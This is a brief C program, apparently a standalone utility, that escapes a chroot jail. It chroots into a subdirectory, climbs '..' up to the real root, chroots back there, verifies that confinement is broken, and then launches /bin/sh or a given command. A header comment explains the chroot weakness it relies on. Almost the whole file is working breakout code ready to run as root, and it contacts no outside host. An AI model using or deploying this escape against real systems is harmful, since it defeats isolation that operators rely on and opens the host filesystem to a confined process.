/* SPDX-License-Identifier: MIT */
/*
 * escape - climb out of a chroot
 *
 * chroot(2) moves a process's root and nothing else. The root is all that
 * stops "..", so a process that stands outside of it walks up to the real
 * one. To come to stand outside takes a second chroot, into a directory
 * below, and no chdir(2) after it. pivot_root(2) leaves no outside.
 *
 * Usage: escape [COMMAND [ARG...]], else /bin/sh. As root.
 */
#define _GNU_SOURCE
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat before, after;

	if (stat("/", &before) == -1 || chdir("/") == -1)
		err(1, "/");

	/* Any directory will do. The working directory stays above it. */
	if (chroot("bin") == -1)
		err(1, "chroot bin");

	/* The top is its own parent: steps too many do no harm. */
	for (int i = 0; i < 4096; i++)
		if (chdir("..") == -1)
			err(1, "..");

	if (chroot(".") == -1 || stat("/", &after) == -1)
		err(1, "chroot .");
	if (after.st_ino == before.st_ino && after.st_dev == before.st_dev)
		errx(1, "still confined: nothing lies above this root");

	if (argc > 1)
		execvp(argv[1], argv + 1);
	else
		execl("/bin/sh", "sh", (char *)NULL);
	err(1, "%s", argc > 1 ? argv[1] : "/bin/sh");
}
